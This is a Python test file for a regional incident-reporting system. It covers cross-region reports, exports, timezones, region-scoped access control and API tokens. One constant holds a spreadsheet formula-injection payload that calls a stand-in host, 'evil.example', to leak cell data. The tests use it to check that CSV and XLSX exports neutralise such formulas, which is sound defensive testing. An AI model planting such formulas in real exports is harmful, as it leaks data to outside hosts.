"""Reports and exports across regions for a federal user: the monthly report of every served region side by side
(CLI and web, HTML and XLSX), the CSV of every region's incidents, and the refusals a user of one region gets."""

from __future__ import annotations

import csv
import io
from datetime import timedelta

from openpyxl import load_workbook
from sqlalchemy import select

from pipeline.reports import build_report
from pipeline.reports_regions import COLUMNS, build_regions_report, write_regions_xlsx
from storage.models import Incident
from tests.conftest import run_cur
from tests.test_web_regions import NOW, client, two  # noqa: F401  (the two-region deployment and its web client)
from tests.test_web_security import login, page_csrf

FORMULA = '=HYPERLINK("http://evil.example/?"&A1,"x")'


def _month(two) -> str:
    """The month (Pskov time) the Pskov incident was routed in: both regions have assignments in it."""
    with two["app"].db.session() as s:
        routed = s.get_one(Incident, two["pskov_incident"]).routed_at
    return routed.astimezone(two["app"].profile("pskov").region.tz).strftime("%Y-%m")


def test_the_report_across_regions_puts_each_regions_own_report_side_by_side(two, tmp_path):
    app, month = two["app"], _month(two)
    env = {"PATH": "/usr/bin:/bin", "CUR_DATABASE_URL": app.settings.database_url, "CUR_REGIONS": "pskov"}
    r = run_cur(["report", "--month", month, "--region", "all", "-o", str(tmp_path)], env=env, cwd=tmp_path)
    assert r.returncode == 0, r.stderr
    assert "Сводный отчёт" in r.stdout and "по всем регионам (2)" in r.stdout
    for region in ("kuzbass", "pskov"):  # every region's own report is still there
        assert (tmp_path / region / f"report-{month}.xlsx").exists()
    html = (tmp_path / f"report-{month}-regions.html").read_text(encoding="utf-8")
    assert "Кемеровская область" in html and "Псковская область" in html and "Все регионы" in html
    assert "МСК+4 (UTC+07:00)" in html and "МСК (UTC+03:00)" in html

    wb = load_workbook(tmp_path / f"report-{month}-regions.xlsx")
    assert wb.sheetnames == ["Регионы", "По направлениям", "Просроченные"]
    ws = wb["Регионы"]
    head = [c.value for c in ws[3]]
    assert head == ["Регион", "Часовой пояс", *(h for h, _ in COLUMNS)]
    rows = {row[0]: row for row in ws.iter_rows(min_row=4, values_only=True)}
    keys = list(rows)
    assert len(keys) == 3 and keys[0].startswith("Кемеровская область") and keys[1:] == ["Псковская область", "Все регионы"]
    kuz, psk, total = (rows[k] for k in rows)
    # each region's line is the summary of its own monthly report, in its own time zone
    with app.db.session() as s:
        for line, code in ((kuz, "kuzbass"), (psk, "pskov")):
            own = build_report(s, app.profile(code), month, NOW)
            assert line[2] == own.created and line[4] == own.total.routed and line[11] == own.total.overdue
            assert line[12] == own.escalations
    assert kuz[4] > 0 and psk[4] > 0
    for col in (2, 3, 4, 5, 8, 9, 10, 11, 12):  # counts add up in the total row
        assert total[col] == kuz[col] + psk[col], head[col]
    sector_rows = list(wb["По направлениям"].iter_rows(values_only=True))
    assert sector_rows[0][1:] == (kuz[0], psk[0], "Все регионы")
    assert all(row[3] == row[1] + row[2] for row in sector_rows[1:])
    assert sum(row[3] for row in sector_rows[1:]) == total[4]
    overdue_head = [c.value for c in wb["Просроченные"][1]]
    assert overdue_head[0] == "Регион" and overdue_head[-1] == "Часовой пояс"  # the zones differ: say which
    assert "Направлен (время региона)" in overdue_head


def test_cur_export_incidents_of_every_region_with_its_code_and_its_own_offset(two, tmp_path):
    app = two["app"]
    with app.db.session() as s:
        s.get_one(Incident, two["pskov_incident"]).title = FORMULA
    env = {"PATH": "/usr/bin:/bin", "CUR_DATABASE_URL": app.settings.database_url, "CUR_REGIONS": "pskov"}
    r = run_cur(["export", "incidents", "--region", "all", "--format", "csv"], env=env, cwd=tmp_path)
    assert r.returncode == 0, r.stderr
    rows = list(csv.DictReader(io.StringIO(r.stdout)))
    assert list(rows[0])[0] == "region" and {x["region"] for x in rows} == {"kuzbass", "pskov"}
    for x in rows:
        assert x["created_at"].endswith("+07:00" if x["region"] == "kuzbass" else "+03:00")
    psk = next(x for x in rows if x["id"] == str(two["pskov_incident"]))
    assert psk["region"] == "pskov" and psk["title"] == "'" + FORMULA  # a formula is quoted as text
    r = run_cur(["export", "incidents", "--region", "atlantis"], env=env, cwd=tmp_path)
    assert r.returncode != 0 and "регион 'atlantis' не обслуживается" in r.stdout + r.stderr


def test_a_formula_in_an_incident_title_stays_text_in_the_report_across_regions(two, tmp_path):
    app = two["app"]
    later = NOW + timedelta(days=40)  # every deadline of the month has passed
    month = _month(two)
    with app.db.session() as s:
        report = build_regions_report(s, app.served, month, later)
        line, row = next(iter(report.overdue()))
        s.get_one(Incident, row.incident_id).title = FORMULA
    with app.db.session() as s:
        write_regions_xlsx(build_regions_report(s, app.served, month, later), tmp_path / "r.xlsx")
    sheet = load_workbook(tmp_path / "r.xlsx")["Просроченные"]
    cell = next(c for r in sheet.iter_rows(min_row=2) for c in r if c.value == FORMULA)
    assert cell.data_type == "s"  # stored as a text, never evaluated


def test_one_region_in_one_zone_names_the_zone_in_the_time_headers(two, tmp_path):
    app = two["app"]
    with app.db.session() as s:
        report = build_regions_report(s, [app.profile("pskov")], _month(two), NOW + timedelta(days=40))
    assert report.one_zone == "МСК (UTC+03:00)"
    assert report.time_header("Направлен") == "Направлен (МСК (UTC+03:00))"


async def test_a_federal_user_reads_every_region_at_once(two, client):
    month = _month(two)
    assert (await login(client, "fed")).status == 303
    page = await (await client.get(f"/regions?month={month}")).text()
    assert 'id="regions-month"' in page and "Все регионы" in page and "Псковская область" in page
    assert f"/reports/regions/{month}.xlsx" in page and "/regions/incidents.csv" in page
    r = await client.get(f"/reports/regions/{month}.html")
    assert r.status == 200
    html = await r.text()
    assert "Кемеровская область" in html and "Псковская область" in html
    r = await client.get(f"/reports/regions/{month}.xlsx")
    assert r.status == 200 and "attachment" in r.headers["Content-Disposition"]
    assert load_workbook(io.BytesIO(await r.read())).sheetnames[0] == "Регионы"

    r = await client.get("/regions/incidents.csv")
    assert r.status == 200
    rows = list(csv.DictReader(io.StringIO((await r.read()).decode("utf-8-sig"))))
    with two["app"].db.session() as s:
        kuz = set(s.scalars(select(Incident.id).where(Incident.region == "kuzbass", Incident.merged_into_id.is_(None))))
    by_id = {int(x["№"]): x for x in rows}
    assert set(by_id) >= kuz | {two["pskov_incident"]}
    psk = by_id[two["pskov_incident"]]
    assert psk["Регион"] == "Псковская область" and psk["Часовой пояс"] == "МСК (UTC+03:00)"
    k = by_id[min(kuz)]
    assert k["Регион"].startswith("Кемеровская область") and k["Часовой пояс"] == "МСК+4 (UTC+07:00)"
    with two["app"].db.session() as s:  # each region's times on its own clock
        for row, inc_id, hours in ((psk, two["pskov_incident"], 3), (k, min(kuz), 7)):
            opened = s.get_one(Incident, inc_id).created_at
            assert row["Открыт (время региона)"] == (opened + timedelta(hours=hours)).strftime("%d.%m.%Y %H:%M")
    # the list's filters apply in every region: a municipality code of Pskov finds Pskov's only
    rows = list(csv.DictReader(io.StringIO((await (await client.get("/regions/incidents.csv?municipality=pskov")).read()).decode("utf-8-sig"))))
    assert {x["Регион"] for x in rows} == {"Псковская область"}
    r = await client.get("/regions/incidents.csv?from=вчера")
    assert r.status == 400


async def test_the_months_of_the_report_across_regions_are_checked(two, client):
    assert (await login(client, "fed")).status == 303
    r = await client.get("/reports/regions/2026-13.html")
    assert r.status == 400 and "Месяца «2026-13» не бывает" in await r.text()
    r = await client.get(f"/reports/regions/{NOW.year + 1}-01.xlsx")
    assert r.status == 404 and "ещё не начался" in await r.text()


async def test_a_user_of_one_region_gets_nothing_across_regions(two, client):
    month = _month(two)
    for login_ in ("op_p", "spec_p", "adm_p"):
        client.session.cookie_jar.clear()
        assert (await login(client, login_)).status == 303
        client.session.cookie_jar.update_cookies({"cur_region": "kuzbass"})  # a forged choice changes nothing
        for path in ("/regions", f"/regions?month={month}", f"/reports/regions/{month}.html", f"/reports/regions/{month}.xlsx",
                     "/regions/incidents.csv", "/regions/incidents.csv?municipality=novokuznetsk"):
            r = await client.get(path)
            assert r.status in (403, 404), (login_, path)
            assert "Кемеровская" not in await r.text()
        # the region's own CSV and report show their region only
        text = (await (await client.get("/incidents.csv")).read()).decode("utf-8-sig")
        assert "novokuznetsk" not in text.lower() and "Новокузнецк" not in text
        token = await page_csrf(client, "/incidents")
        assert (await client.post("/regions/kuzbass", data={"csrf_token": token})).status in (403, 404)


# --------------------------------------------------------------------------- users of a region made on /users


def _new_user(two, login_: str):
    from storage.models import Authority, User

    with two["app"].db.session() as s:
        u = s.scalar(select(User).where(User.login == login_))
        if u is None:
            return None
        a = s.get(Authority, u.authority_id) if u.authority_id else None
        return u.region, (a.region, a.code) if a else None


async def test_a_federal_admin_makes_users_of_any_region(two, client):
    from storage import web_repo
    from tests.test_web_security import PW_HASH

    with two["app"].db.session() as s:
        web_repo.add_user(s, "adm_fed", PW_HASH, "admin", None)
    assert (await login(client, "adm_fed")).status == 303
    page = await (await client.get("/users")).text()
    assert '<select name="region">' in page and "все регионы (федеральный уровень)" in page
    assert 'value="pskov:curator"' in page and 'value="kuzbass:curator"' in page  # the same code in both regions
    token = await page_csrf(client, "/users")

    async def make(**form: str):
        return await client.post("/users", data={"csrf_token": token, **form})

    assert (await make(login="new_psk", role="operator", region="pskov")).status == 200
    assert _new_user(two, "new_psk") == ("pskov", None)
    assert (await make(login="new_fed", role="curator")).status == 200
    assert _new_user(two, "new_fed") == (None, None)
    assert (await make(login="spec_psk", role="specialist", authority="pskov:curator")).status == 200
    assert _new_user(two, "spec_psk") == (None, ("pskov", "curator"))  # Pskov's curator, not Kuzbass's
    r = await make(login="x1", role="operator", region="atlantis")
    assert r.status == 400 and "регион «atlantis» не обслуживается" in await r.text()
    r = await make(login="x2", role="specialist", region="kuzbass", authority="pskov:curator")
    assert r.status == 400 and "орган власти другого региона" in await r.text()
    assert _new_user(two, "x1") is None and _new_user(two, "x2") is None
    listing = await (await client.get("/users")).text()
    import re

    regions = dict(re.findall(r'data-login="([^"]+)">.*?<td class="region">([^<]*)</td>', listing, re.S))
    assert regions["new_psk"] == "Псковская область" and regions["new_fed"] == "все регионы"
    assert regions["spec_psk"] == "Псковская область" and regions["op_k"] == "Кузбасс"


async def test_an_admin_of_a_region_cannot_make_a_user_of_another_with_a_forged_field(two, client):
    assert (await login(client, "adm_p")).status == 303
    page = await (await client.get("/users")).text()
    assert '<select name="region">' not in page  # no choice: their own region
    token = await page_csrf(client, "/users")

    async def make(**form: str):
        return await client.post("/users", data={"csrf_token": token, **form})

    for form in ({"login": "f1", "role": "operator", "region": "kuzbass"},
                 {"login": "f2", "role": "specialist", "authority": "kuzbass:curator"},
                 {"login": "f3", "role": "admin", "region": ""}):
        r = await make(**form)
        if form["login"] == "f3":  # an empty choice is their own region, not every region
            assert r.status == 200 and _new_user(two, "f3") == ("pskov", None)
            continue
        assert r.status == 400, form
        assert "только своего региона" in await r.text()
        assert _new_user(two, form["login"]) is None
    assert (await make(login="f4", role="specialist", authority="curator")).status == 200
    assert _new_user(two, "f4") == ("pskov", ("pskov", "curator"))


# --------------------------------------------------------------------------- API tokens: codes repeat across regions


async def test_tokens_of_two_regions_authorities_with_one_code_stay_apart(two, client, tmp_path):
    """Every profile has a ``curator``: a token is issued for the region named, and what it does is written under a
    name with its region, so one region's admin never reads the other's token's actions."""
    from storage.models import ApiToken, Authority

    app = two["app"]
    env = {"PATH": "/usr/bin:/bin", "CUR_DATABASE_URL": app.settings.database_url, "CUR_REGIONS": "pskov"}
    r = run_cur(["tokens", "add", "curator", "--region", "pskov", "--label", "псковский"], env=env, cwd=tmp_path)
    assert r.returncode == 0, r.stderr
    token_p = r.stdout.strip().splitlines()[-1]
    assert "(Псковская область)" in r.stderr
    r = run_cur(["tokens", "add", "curator", "--label", "кузбасский"], env=env, cwd=tmp_path)
    assert r.returncode == 0, r.stderr
    token_k = r.stdout.strip().splitlines()[-1]
    with app.db.session() as s:
        owners = {t.label: s.get_one(Authority, t.authority_id).region for t in s.scalars(select(ApiToken))}
    assert owners["псковский"] == "pskov" and owners["кузбасский"] == "kuzbass"
    r = run_cur(["tokens", "list", "--region", "pskov"], env=env, cwd=tmp_path)
    assert r.returncode == 0 and "псковский" in r.stdout and "кузбасский" not in r.stdout
    r = run_cur(["tokens", "add", "curator", "--region", "atlantis"], env=env, cwd=tmp_path)
    assert r.returncode != 0 and "регион 'atlantis' не обслуживается" in r.stdout + r.stderr

    added = {}
    for token, claim in ((token_p, "Во Пскове отключат весь интернет на месяц"), (token_k, "В Кемерове закроют все школы до весны")):
        r = await client.post("/api/fakes", json={"claim": claim, "refutation": "Неправда."}, headers={"Authorization": f"Bearer {token}"})
        assert r.status == 200, await r.text()
        added[token] = (await r.json())["added_by"]
    assert added == {token_p: "api:pskov:curator", token_k: "api:curator"}  # the default region's keeps its old name

    assert (await login(client, "adm_p")).status == 303
    audit = await (await client.get("/audit")).text()
    assert audit.count('data-action="fake_claim.add"') == 1  # the Pskov token's only, though both are «curator»
    assert "Псковская область" in audit
